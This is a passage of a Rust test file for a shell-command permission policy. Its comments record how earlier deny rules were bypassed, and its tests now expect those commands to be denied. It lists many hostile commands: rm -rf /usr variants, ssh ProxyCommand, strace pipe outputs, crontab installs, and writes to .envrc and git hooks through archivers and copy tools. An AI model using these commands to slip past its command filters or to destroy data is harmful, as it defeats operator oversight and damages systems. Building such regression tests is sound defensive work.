        "v='($(touch pwned))'; f() { local -a x; local x=\"$v\"; }; f",
    ] {
        assert!(
            bash_creates_pwned(dir.path(), line, &[]),
            "bash did not run {line}"
        );
    }
    // A new local, a global array or an `export`: the string is assigned, nothing runs.
    for line in [
        "v='($(touch pwned))'; x=(1); f() { local x=\"$v\"; }; f",
        "v='($(touch pwned))'; a=(); export a=\"$v\"",
    ] {
        assert!(
            !bash_creates_pwned(dir.path(), line, &[]),
            "bash ran {line}"
        );
    }
}

/// Round 7, under a `git` rule: `git merge-index PROG -a` runs PROG for every unmerged file (the
/// real git 2.47 ran a planted program); `git interpret-trailers --in-place --trailer 'touch
/// pwned #=x' .envrc` appends `touch pwned #=x: ` to the file, a line a shell runs; `git
/// send-email` reads its options with Perl's Getopt::Long, which takes any unambiguous prefix
/// and a single dash (`--sendm=CMD` and `-sendmail-cmd=CMD` ran CMD, as `--heade=CMD` did);
/// `git shell -c` runs `git-receive-pack` and the operator's `~/git-shell-commands`.
#[test]
fn git_commands_that_run_a_program_or_write_a_file_they_are_given() {
    let f = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "git merge-index /tmp/e/x -a",
        "git merge-index -o -q ./x -a",
        "git merge-index sh -- f",
        "git interpret-trailers --in-place --trailer 'touch pwned #=x' .envrc",
        "git interpret-trailers --in-pl --trailer a=b .git/config",
        "git interpret-trailers --trailer a=b --in-place .git/hooks/pre-commit",
        "git send-email --sendm=/tmp/e/x x.patch",
        "git send-email -sendmail-cmd=/tmp/e/x x.patch",
        "git send-email --heade='touch pwned' x.patch",
        "git send-email --to-cm x x.patch",
        "git send-email -smtp-server=/tmp/e/x x.patch",
        "git shell -c \"git-receive-pack '/tmp/e/r'\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "git interpret-trailers --trailer a=b msg.txt",
            "git interpret-trailers --in-place --trailer a=b msg.txt",
            "git send-email --to=a@b.example --cc=c@d.example -v2 --annotate x.patch",
            "git send-email --smtp-server=smtp.example.org x.patch",
        ],
    );
    // The real git runs the merge program.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.name=a", "-c", "user.email=a@b"])
            .args(args)
            .current_dir(ws)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", ws)
            .output()
            .unwrap()
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(ws.join("f"), "a\n").unwrap();
    git(&["add", "f"]);
    git(&["commit", "-qm", "1"]);
    git(&["checkout", "-qb", "b"]);
    std::fs::write(ws.join("f"), "b\n").unwrap();
    git(&["commit", "-qam", "b"]);
    git(&["checkout", "-q", "main"]);
    std::fs::write(ws.join("f"), "c\n").unwrap();
    git(&["commit", "-qam", "c"]);
    git(&["merge", "b"]);
    std::fs::write(ws.join("prog"), "#!/bin/sh\ntouch pwned\n").unwrap();
    assert!(bash_creates_pwned(
        ws,
        "chmod +x prog && git merge-index ./prog -a",
        &[("GIT_CONFIG_NOSYSTEM", "1"), ("HOME", ws.to_str().unwrap())]
    ));
}

/// Round 7. `git quiltimport` applies a quilt series to the work tree (the real git 2.47 wrote
/// the `.envrc` a patch of `--patches DIR` adds), and the importers `svn`, `p4`, `cvsimport`,
/// `archimport` and `cvsexportcommit` check out or patch work trees too: names the line does
/// not show. They were allowed under a `git` rule.
#[test]
fn git_importers_write_the_work_tree() {
    let f = fixture(TYPICAL_RULES, "deny");
    f.never_allowed(&[
        "git quiltimport --patches /tmp/e/p",
        "git quiltimport",
        "git svn rebase",
        "git p4 sync",
        "git cvsimport -C x y",
        "git archimport x",
        "git cvsexportcommit -w sub HEAD",
    ]);
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let patches = dir.path().join("p");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&patches).unwrap();
    std::fs::write(
        patches.join("p1.diff"),
        "--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+touch pwned\n",
    )
    .unwrap();
    std::fs::write(patches.join("series"), "p1.diff\n").unwrap();
    let line = format!(
        "git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m 1 && git -c user.name=a -c user.email=a@b quiltimport --patches {} --author 'a <a@b>'",
        patches.display()
    );
    let env = [("GIT_CONFIG_NOSYSTEM", "1"), ("HOME", ws.to_str().unwrap())];
    assert!(!bash_creates_pwned(&ws, &line, &env));
    assert!(
        ws.join(".envrc").is_file(),
        "the real quiltimport did not write .envrc"
    );
}

/// Round 7. bash runs a process substitution in the word of an unquoted `${x:-WORD}`: `echo
/// ${x:-<(rm -rf src)}` runs `rm` (the real bash did), and `cat ${x:-<(cat y > .envrc)}`
/// writes. The parser left `<(…)` there as text. (Inside double quotes it is text to bash
/// too.)
#[test]
fn a_process_substitution_inside_an_expansion_runs() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "echo ${x:-<(rm -rf src)}",
            "echo ${x:->(rm x)}",
            "echo ${x-<(rm x)}",
        ],
    );
    // The parser fails on this one: never allowed.
    f.never_allowed(&["echo ${x:+pre<(rm x)post}"]);
    let typical = fixture(TYPICAL_RULES, "deny");
    typical.never_allowed(&["cat ${x:-<(cat y > .envrc)}", "cat ${x:-<(ls)}"]);
    typical.all(
        Action::Allow,
        &[
            "cat \"${x:-<(ls)}\"",
            "cat ${x:-a\\<\\(b}",
            "cat <(ls)",
            "cat ${x:-default}",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "echo ${x:-<(touch pwned)}; sleep 1",
        &[]
    ));
}

/// Round 7. Compressors that name their output after what the line does not show: `gunzip -N
/// x.gz` (also `gzip -dN`, `--name`, `unpigz -N`) restores the name stored in the archive (the
/// real gzip wrote the stored name); `zstd -d pre-commit.zst --output-dir-flat .git/hooks`
/// writes the hook; and `uncompress` (gzip's script, `gzip -d`) was not seen as a compressor.
#[test]
fn a_compressors_stored_or_redirected_name_is_judged() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "gunzip -N x.gz",
        "gzip -dN x.gz",
        "gzip -d --name x.gz",
        "unpigz -N x.gz",
        "zstd -d pre-commit.zst --output-dir-flat .git/hooks",
        "zstd -d pre-commit.zst --output-dir-flat=.git/hooks",
        "zstd -d x/pre-commit.zst --output-dir-mirror .git/hooks",
        "unzstd .envrc.zst --output-dir-flat /tmp/e",
        "uncompress .envrc.Z",
        "uncompress -f .envrc.gz",
    ]);
    f.all(
        Action::Allow,
        &[
            "gunzip x.gz",
            "gzip -N x",
            "zstd -d x.zst --output-dir-flat out",
            "uncompress x.Z",
            "gunzip -c x.gz",
        ],
    );
    // The real gzip restores the stored name.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join(".envrc"), "touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "gzip -N .envrc && mv .envrc.gz x.gz && gunzip -N x.gz",
        &[]
    ));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "gunzip -N did not restore .envrc"
    );
}

/// Round 7. `dpkg-deb -x PKG DIR` (also `-X`, `-R`, `-e`, and `dpkg -x`) extracts a package's
/// files under names the line does not show: the real dpkg-deb 1.21 wrote the `.envrc` a
/// package held. `dpkg -i`/`--unpack`/`--root=DIR` install one (and run its maintainer
/// scripts). Allowed where the default allows.
#[test]
fn a_package_extraction_writes_names_the_line_does_not_show() {
    let f = allow_all();
    f.never_allowed(&[
        "dpkg-deb -x a.deb .",
        "dpkg-deb --extract a.deb sub",
        "dpkg-deb -X a.deb .",
        "dpkg-deb --vextract a.deb .",
        "dpkg-deb -R a.deb sub",
        "dpkg-deb --raw-extract a.deb sub",
        "dpkg-deb -e a.deb",
        "dpkg-deb --control a.deb sub",
        "dpkg -x a.deb .",
        "dpkg --vextract a.deb .",
        "dpkg -i a.deb",
        "dpkg --root=. --unpack a.deb",
        "dpkg-deb \"$op\" a.deb .",
    ]);
    f.all(
        Action::Allow,
        &[
            "dpkg-deb -c a.deb",
            "dpkg-deb -I a.deb",
            "dpkg-deb -f a.deb Package",
            "dpkg -l",
            "dpkg -L bash",
            "dpkg -S /bin/ls",
        ],
    );
    // The real dpkg-deb writes what the package holds.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join("pkg/DEBIAN")).unwrap();
    std::fs::write(
        ws.join("pkg/DEBIAN/control"),
        "Package: x\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b>\nDescription: x\n",
    )
    .unwrap();
    std::fs::write(ws.join("pkg/.envrc"), "touch pwned\n").unwrap();
    std::fs::create_dir_all(ws.join("out")).unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "dpkg-deb --build -Zgzip pkg x.deb >/dev/null && dpkg-deb -x x.deb out",
        &[]
    ));
    assert!(
        ws.join("out/.envrc").is_file(),
        "the real dpkg-deb did not extract .envrc"
    );
}

/// Round 7. `strace -o '|CMD'` (or `'!CMD'`) pipes the trace to `sh -c CMD`: the real strace
/// ran it, so `strace -o '|rm -rf src' true` passed a `rm` deny rule and `strace -o '|cat >
/// .envrc' ls` wrote the file. valgrind's tools write their reports where `--massif-out-file`,
/// `--callgrind-out-file`, … say, with the command line in them (the real massif's report of
/// `sh -c $'true\ntouch x'` ran `touch x` in bash, checked by hand); only `--log-file` and
/// `--xml-file` were judged.
#[test]
fn a_tracers_output_option_may_run_or_write() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.all(
        Action::Deny,
        &[
            "strace -o '|rm -rf src' true",
            "strace -o '!rm x' true",
            "strace --output='|rm x' true",
            "strace -o'|rm x' true",
        ],
    );
    f.never_allowed(&[
        "strace -o '|cat > .envrc' ls",
        "valgrind --tool=massif --massif-out-file=.envrc ls",
        "valgrind --tool=callgrind --callgrind-out-file=.git/hooks/pre-commit ls",
        "valgrind --tool=cachegrind --cachegrind-out-file=.envrc ls",
        "valgrind --tool=dhat --dhat-out-file=.envrc ls",
        "valgrind --xtree-memory-file=.envrc ls",
        "valgrind --xtree-leak-file=.envrc ls",
        "valgrind --log-file=.env%q{X}rc ls",
    ]);
    f.all(
        Action::Allow,
        &[
            "strace -o trace.txt ls",
            "strace -c ls",
            "valgrind --tool=massif --massif-out-file=massif.out ls",
            "valgrind --log-file=vg.%p.log ls",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "strace -o '|touch pwned' true",
        &[]
    ));
}

/// Round 7. ssh runs a local command for `-o ProxyCommand=CMD` (and `LocalCommand`,
/// `KnownHostsCommand`) before it reaches the network: the real OpenSSH ran it with the network
/// down, so `ssh -o ProxyCommand='rm -rf src' x` passed a `rm` deny rule. `scp -S PROG` and
/// `sftp -S PROG`/`-D PROG` run PROG; `-F FILE` reads a configuration that can name such
/// commands; `ssh -E FILE` writes its log there.
#[test]
fn ssh_runs_the_local_commands_its_options_name() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "ssh -o ProxyCommand='rm -rf src' x",
            "ssh -oProxyCommand='rm x' x",
            "ssh -o 'ProxyCommand rm x' x",
            "ssh -o proxycommand=\"rm x\" x",
            "ssh -vo ProxyCommand='rm x' x",
            "ssh -o PermitLocalCommand=yes -o LocalCommand='rm x' x",
            "ssh -o KnownHostsCommand='rm x' x",
            "scp -o ProxyCommand='rm x' a x:b",
            "sftp -o ProxyCommand='rm x' x",
            "scp -S rm a x:b",
            "sftp -S rm x",
            "sftp -D rm x",
        ],
    );
    f.never_allowed(&["ssh -F cfg x", "ssh -E .envrc x", "ssh -o \"$o\" x"]);
    f.all(
        Action::Allow,
        &[
            "ssh -o BatchMode=yes -o ConnectTimeout=5 x true",
            "ssh -p 2222 -i key x",
            "scp -P 2222 a x:b",
            "ssh -G x",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "timeout 20 ssh -o ProxyCommand='touch pwned' -o BatchMode=yes x true",
        &[]
    ));
}

/// Round 7. `crontab FILE` (or `-` from the input, or `-e`) installs the operator's crontab,
/// which cron runs outside any sandbox (the real cron 3.0 `crontab -` wrote
/// `/var/spool/cron/crontabs/root`); `crontab -r` removes it; `at`/`batch` queue a job the same
/// way. `git maintenance start` asked for this since round 6; the programs themselves were
/// allowed where the default allows. Listing (`crontab -l`) stays allowed.
#[test]
fn a_scheduler_entry_runs_outside_any_sandbox() {
    let f = allow_all();
    f.never_allowed(&[
        "crontab x",
        "echo '* * * * * touch pwned' | crontab -",
        "crontab -e",
        "crontab -r",
        "crontab -u root x",
        "crontab -l -r",
        "crontab \"$f\"",
        "at now + 1 minute < x",
        "at -f x now",
        "batch < x",
    ]);
    f.all(Action::Allow, &["crontab -l", "crontab -u root -l", "atq"]);
}

/// Round 7. `jobs -x COMMAND ARGS` runs COMMAND (with job specs replaced by process group ids):
/// the real bash ran it, so `jobs -x rm -rf src` passed a `rm` deny rule. It is a wrapper now.
#[test]
fn jobs_x_runs_its_command() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &["jobs -x rm -rf src", "jobs -x -- rm x", "jobs -x rm %1"],
    );
    f.never_allowed(&["jobs -x \"$c\" x", "jobs \"$o\" rm x"]);
    f.all(Action::Allow, &["jobs", "jobs -l", "jobs -p", "jobs -x ls"]);
    review().never_allowed(&["jobs -x touch x"]);
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(dir.path(), "jobs -x touch pwned", &[]));
}

/// Round 7. `wget --use-askpass=CMD` runs CMD for a user name and password (the real wget 1.21
/// ran it before connecting); `--save-cookies FILE`, `--rejected-log=FILE` and `--hsts-file`
/// write FILE.
#[test]
fn wget_runs_its_askpass_and_writes_its_logs() {
    let rules =
        "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"wget\"\naction = \"allow\"\n";
    let f = fixture(rules, "allow");
    f.never_allowed(&[
        "wget --use-askpass=/tmp/e/x http://index.example.org/",
        "wget --use-a=/tmp/e/x http://index.example.org/",
        "wget --use-askpass http://index.example.org/",
        "wget --save-cookies .envrc http://index.example.org/",
        "wget --save-cookies=.git/config http://index.example.org/",
        "wget --rejected-log=.envrc http://index.example.org/",
        "wget --hsts-file=.envrc http://index.example.org/",
    ]);
    f.all(
        Action::Allow,
        &[
            "wget -q http://index.example.org/a.tar.gz",
            "wget --save-cookies cookies.txt http://index.example.org/",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("ask"), "#!/bin/sh\ntouch pwned\necho x\n").unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "chmod +x ask && timeout 20 wget -q --tries=1 --use-askpass=./ask http://127.0.0.1:1/",
        &[]
    ));
}

/// Round 7. gpg starts the program `--agent-program` names when no agent runs (the real GnuPG
/// 2.2 ran it for `-d`, also spelled `--agent-prog=`), and `--dirmngr-program`,
/// `--photo-viewer` and `--exec-path` name programs it runs; `--options FILE` and `--homedir
/// DIR` read a `gpg.conf` that can name them (outside the roots; inside them too since round
/// 10, below). `--logger-file`, `--status-file` and `--attribute-file` write their file.
#[test]
fn gpg_runs_the_programs_its_options_name() {
    let f = allow_all();
    f.never_allowed(&[
        "gpg --agent-program=/tmp/e/x -d f",
        "gpg --agent-prog /tmp/e/x -d f",
        "gpg --dirmngr-program=/tmp/e/x --recv-keys x",
        "gpg --photo-viewer=x --list-keys",
        "gpg --exec-path=/tmp/e --list-keys",
        "gpg --options /tmp/e/cfg --list-keys",
        "gpg --homedir /tmp/e -d f",
        "gpg --logger-file .envrc --list-keys",
        "gpg --status-file=.envrc -d f",
        "gpg --attribute-file .git/hooks/pre-commit -d f",
    ]);
    f.all(
        Action::Allow,
        &[
            "gpg --list-keys",
            "gpg -d f",
            "gpg --batch --yes -o x.gpg -c f",
            "gpg --verify f.sig f",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join("h")).unwrap();
    std::fs::write(ws.join("agent"), "#!/bin/sh\ntouch pwned\nexit 1\n").unwrap();
    std::fs::write(ws.join("f"), "x").unwrap();
    assert!(bash_creates_pwned(
        ws,
        "chmod +x agent && chmod 700 h && timeout 30 gpg --batch --homedir h --agent-program=./agent --pinentry-mode loopback --passphrase x -c -o f.gpg f",
        &[]
    ));
}

/// Round 7. `cp --parents SRC… DIR` writes `DIR/SRC`, the source's whole path, not its last
/// name: `cp --parents .git/hooks/pre-commit sub` wrote `sub/.git/hooks/pre-commit`, the hook
/// of the repository `sub` (the real git ran it at the next commit there). It was judged as
/// `sub/pre-commit`. `rsync -R`/`--relative` does the same (by its manual; rsync is not
/// installed here).
#[test]
fn cp_parents_writes_the_sources_whole_path() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "cp --parents .git/hooks/pre-commit sub",
        "cp --par .git/hooks/pre-commit sub",
        "cp --parents a/.claude/settings.json .",
        "cp --parents -t sub .git/config",
        "cp --parents x/* sub",
        "cp --parents /tmp/e/.envrc sub",
        "rsync -R .git/hooks/pre-commit sub/",
        "rsync --relative .git/config sub/",
        "rsync -vR a/.claude/settings.json .",
    ]);
    f.all(Action::Allow, &["cp --parents src/a.rs build", "cp x sub/"]);
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(
        ws.join(".git/hooks/pre-commit"),
        "#!/bin/sh\ntouch ../pwned\n",
    )
    .unwrap();
    let env = [("GIT_CONFIG_NOSYSTEM", "1"), ("HOME", ws.to_str().unwrap())];
    assert!(bash_creates_pwned(
        ws,
        "git init -q sub && cp --parents .git/hooks/pre-commit sub && chmod +x sub/.git/hooks/pre-commit && git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
        &env
    ));
}

/// Round 7. util-linux `rename FROM TO FILE…` renames each FILE to FILE with FROM replaced by
/// TO, in the whole name: the real `rename.ul x .envrc x` made `.envrc`, and `rename.ul d/f
/// .envrc d/f` moved a file out of its directory to `.envrc`. Debian's `rename` is Perl's
/// `file-rename`, whose first operand is a Perl expression it runs. Both were allowed where the
/// default allows.
#[test]
fn rename_writes_the_names_it_computes() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "rename.ul x .envrc x",
        "rename.ul d/f .envrc d/f",
        "rename.ul -v pre .git/hooks/pre sub/pre-commit",
        "rename.ul -a x c .envrx",
        "rename.ul -l z c .envrz",
        "rename.ul -s x y link",
        "rename.ul x y *",
        "rename.ul \"$a\" b c",
        "rename 's/x/.envrc/' x",
        "file-rename 's/x/y/e' x",
        "prename 's/x/y/' x",
    ]);
    f.all(
        Action::Allow,
        &["rename.ul .txt .md a.txt b.txt", "rename.ul -n x .envrc x"],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(ws, "rename.ul x .envrc x", &[]));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "rename.ul did not make .envrc"
    );
}

/// Round 7. binutils `objcopy IN [OUT]` writes OUT (IN itself without one), and
/// `--dump-section NAME=FILE` writes FILE: the real objcopy 2.40 copied `x` to `.envrc` with
/// `-I binary -O binary`, and dumped a section to the file named. `strip` rewrites its operands
/// in place, or writes `-o FILE`. All were allowed where the default allows.
#[test]
fn objcopy_and_strip_write_the_files_they_name() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "objcopy -I binary -O binary x .envrc",
        "objcopy --input-target=binary x .git/hooks/pre-commit",
        "objcopy .envrc",
        "objcopy --dump-section .data=.envrc x y",
        "objcopy --dump-sec .data=.envrc x y",
        "strip -o .envrc x",
        "strip .git/hooks/pre-commit",
        "x86_64-linux-gnu-objcopy x .envrc",
    ]);
    f.all(
        Action::Allow,
        &[
            "objcopy -O binary app app.bin",
            "strip -o app.stripped app",
            "strip app",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "objcopy -I binary -O binary x .envrc",
        &[]
    ));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "objcopy did not copy x to .envrc"
    );
}

/// Round 7. `lz4 [-d] IN OUT` writes its second operand (the real lz4 1.9 decompressed into
/// `.envrc`), and with one operand (or `-m`) a name derived from it (`unlz4 .envrc.lz4`
/// writes `.envrc` when its output is a terminal).
#[test]
fn lz4_writes_its_output_operand() {
    let f = allow_all();
    f.never_allowed(&[
        "lz4 -d x.lz4 .envrc",
        "unlz4 x.lz4 .envrc",
        "lz4 -dm .envrc.lz4",
        "unlz4 .envrc.lz4",
        "lz4 -d .git/hooks/pre-commit.lz4",
    ]);
    f.all(
        Action::Allow,
        &[
            "lz4 -d x.lz4 out.txt",
            "lz4cat x.lz4",
            "lz4 -dc x.lz4",
            "lz4 x x.lz4",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "lz4 -q x x.lz4 && lz4 -q -d x.lz4 .envrc",
        &[]
    ));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "lz4 did not write .envrc"
    );
}

/// Round 7. tmux and screen run the commands they are given in a terminal they keep (`tmux new
/// -d CMD`, `run-shell`, `screen -dm CMD`; the real tmux 3.3 ran one), and `tmux send-keys`
/// types into a session that may be the operator's own, outside any sandbox. They were
/// allowed where the default allows, past a `rm` deny rule. Only listing passes.
#[test]
fn a_terminal_multiplexer_runs_what_it_is_given() {
    let f = allow_all();
    f.never_allowed(&[
        "tmux new-session -d 'rm -rf src'",
        "tmux new -d rm x",
        "tmux send-keys -t 0 'rm x' Enter",
        "tmux run-shell 'rm x'",
        "tmux -L x new -d ls",
        "tmux",
        "screen -dm rm x",
        "screen -S s -X stuff 'rm x\\n'",
        "screen",
    ]);
    f.all(
        Action::Allow,
        &[
            "tmux -V",
            "tmux ls",
            "tmux list-sessions",
            "tmux has-session -t x",
            "screen -ls",
            "screen -v",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let socket = format!("cordon-bypass-{}", std::process::id());
    let line = format!("tmux -L {socket} -f /dev/null new-session -d 'touch pwned'");
    let _ = bash_creates_pwned(dir.path(), &line, &[]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !dir.path().join("pwned").exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(
        dir.path().join("pwned").exists(),
        "tmux did not run its command"
    );
}

/// Round 7. More programs that run the command they are given, missing from the wrapper table:
/// a `rm` deny rule did not reach `eatmydata rm x`, `setarch x86_64 rm x`, `choom -n 1 rm x`,
/// `faketime TIME rm x`, `ssh-agent rm x`, `dbus-launch rm x`, `torsocks rm x` or
/// `systemd-run rm x`. `systemd-run` also hands its command to the operator's service manager,
/// outside any sandbox (`--user --on-calendar` makes it a timer), so it asks as well.
#[test]
fn more_programs_that_run_their_argv_are_seen_through() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "eatmydata rm x",
            "setarch x86_64 rm x",
            "setarch x86_64 -R rm x",
            "linux64 rm x",
            "linux32 -R rm x",
            "choom -n 100 rm x",
            "choom -n 100 -- rm x",
            "faketime '2020-01-01' rm x",
            "faketime -f '+1d' rm x",
            "ssh-agent rm x",
            "ssh-agent -t 60 rm x",
            "dbus-launch rm x",
            "dbus-launch --exit-with-session rm x",
            "torsocks rm x",
            "systemd-run rm x",
            "systemd-run --user --scope rm x",
            "systemd-run --user --on-calendar=daily rm x",
            "uclampset -m 0 rm x",
            "runcon ctx rm x",
            "runcon -t t rm x",
            "systemd-inhibit --what=idle rm x",
            "systemd-inhibit rm x",
        ],
    );
    f.never_allowed(&[
        "systemd-run --user --on-calendar=daily ls",
        "setarch x86_64 \"$o\" ls",
    ]);
    f.all(
        Action::Allow,
        &[
            "eatmydata ls",
            "setarch x86_64 ls",
            "choom -p 1",
            "ssh-agent -k",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "setarch x86_64 -R touch pwned",
        &[]
    ));
}

/// The default profile's `[shell]` section: its deny rules for `rm -rf /` and the like.
fn default_profile() -> Fixture {
    let text = cordon_policy::DEFAULT_POLICY;
    let start = text.find("[shell]").unwrap();
    let end = text[start..].find("[approval]").unwrap() + start;
    fixture(&text[start..end], "deny")
}

/// Round 8: the default profile's rm rules (`rm -rf /`, `rm -[rRf]*[rRf] /*`) matched rm's
/// words as spelled, so `rm -r -f /usr`, `--recursive --force`, `-R`, `-rfv`, `//usr`,
/// `/usr/`, a second operand or `--` deleted what the rule denies. The real rm removes a tree
/// for each spelling (run here on a tree of the test's own); the rules now see rm's meaning:
/// the options as a set, each operand normalised lexically.
#[test]
fn rm_deny_rules_match_rms_meaning_not_its_spelling() {
    let spellings = [
        "rm -r -f {}",
        "rm -R -f {}",
        "rm -Rf {}",
        "rm -f -R {}",
        "rm --recursive --force {}",
        "rm --rec --for {}",
        "rm -rfv {}",
        "rm -v -rf {}",
        "rm -r {}",
        "rm -rf -- {}",
        "rm -rf x {}",
        "rm {} -rf",
        "rm -rf {}/",
        "rm -rf {}//",
        "rm -rf /{}",
        "rm -rf /.{}",
        "yes | rm -ri {}",
        "rm -rf --one-file-system {}",
    ];
    // The real rm deletes the tree for each spelling.
    let dir = tempfile::tempdir().unwrap();
    let tree = std::fs::canonicalize(dir.path()).unwrap().join("usr");
    for s in &spellings {
        std::fs::create_dir_all(tree.join("lib/x")).unwrap();
        std::fs::write(tree.join("lib/x/f"), "").unwrap();
        let line = s.replace("{}", tree.to_str().unwrap());
        let out = std::process::Command::new("bash")
            .args(["-c", &line])
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(!tree.exists(), "{line}: the real rm left the tree: {out:?}");
    }
    let f = default_profile();
    let denied: Vec<String> = spellings
        .iter()
        .map(|s| s.replace("{}", "/usr"))
        .chain(
            [
                "rm -r -f /",
                "rm -rf //",
                "rm -rf /.",
                "rm --recursive --force --no-preserve-root /",
                "rm -rf /usr/*",
                "rm -rf /home/.",
                "rm -rf /usr/lib/..",
                // -i reads its answers from the input, which may say yes.
                "rm -r -i /usr",
                // Relative to the working directory, the home, or a user's home.
                "rm -rf ../../../../../../../../../../usr",
                "rm -rf ./../../../../../../../../../../usr/",
                "rm -rf ~/../../../../../../../../../../usr",
                "rm -rf ~+/../../../../../../../../../../usr",
                "rm -rf ~root/../usr",
                "rm -rf ~nosuchuser/../../../../../../../../../../usr",
                // A locale string is its text where no catalogue translates it.
                "rm -rf $\"/usr\"",
                // From where the line's cd took it (or may have).
                "cd /; rm -rf usr",
                "cd / && rm -rf ./usr/",
                "pushd /; rm -rf usr",
                "cd /tmp; cd ..; rm -rf usr",
                "cd / || true; rm -rf usr",
                "if true; then cd /; fi; rm -rf usr",
                "(cd / && rm -rf usr)",
                "cd /usr && rm -rf lib/..",
            ]
            .map(String::from),
        )
        .collect();
    f.all(
        Action::Deny,
        &denied.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    f.all(
        Action::Allow,
        &[
            "rm -rf target",
            "rm -r -f target node_modules",
            "rm -f x.o",
            "rm x",
            "rm -rf ./build/",
            "rm -- -rf",
            "rm ./-rf /usr",
            "rm -rf ../sibling",
            "rm -rf ~/build",
            "rm -rf $\"build\"",
            "cd sub && rm -rf ../target",
            "cd sub && rm -rf build",
            "cd /tmp && rm -rf build",
            "cd \"$d\" && rm -rf build",
            "cd ~ && rm -rf .cache/x",
        ],
    );
}

/// Round 8: programs that run a command they are given, which a `rm` deny rule did not reach.
/// The real capsh ran `/bin/bash ARGS` after `--` (and after `-+`; `==` runs capsh again), gdb's
/// `-ex 'shell CMD'` ran CMD, `perf stat CMD` and `hyperfine CMD` ran CMD,
/// `start-stop-daemon --start --exec PROG -- ARGS` ran PROG (checked here where installed).
/// capsh, firejail, toybox, cgexec, rlwrap, cpulimit and trickle now have their command read;
/// the ones whose command is code in their own language, or is run by a server that may be
/// the operator's (expect, gdb, perf, hyperfine, parallel, start-stop-daemon, terminals,
/// entr, task spoolers, cluster launchers, container engines, flatpak-spawn, machinectl,
/// systemd-nspawn, proot, bwrap), ask.
#[test]
fn more_programs_that_run_a_command_are_seen_through_or_ask() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "capsh -- -c 'rm -rf x'",
            "capsh --caps=cap_chown+ep -- -c 'rm x'",
            "capsh --user=nobody -+ -c 'rm x'",
            "capsh == -- -c 'rm x'",
            "capsh --shell=/bin/rm -- x",
            "capsh --shell=rm -- x",
            "firejail rm x",
            "firejail --noprofile --private=/tmp/e rm x",
            "firejail --quiet -- rm x",
            "toybox rm x",
            "cgexec -g cpu:x rm x",
            "rlwrap rm x",
            "rlwrap -a -- rm x",
            "cpulimit -l 50 rm x",
            "cpulimit -l 50 -- rm x",
            "trickle -d 10 rm x",
            "gdb --args rm x",
            "gdb -q --args rm -rf x",
        ],
    );
    f.never_allowed(&[
        "capsh --shell=\"$s\" -- x",
        "capsh \"$o\" -- -c ls",
        "expect -c 'spawn rm x'",
        "expect -c 'exec rm x'",
        "expect script.exp",
        "gdb -batch -ex 'shell rm x'",
        "gdb -q -ex 'python import os' ./a.out",
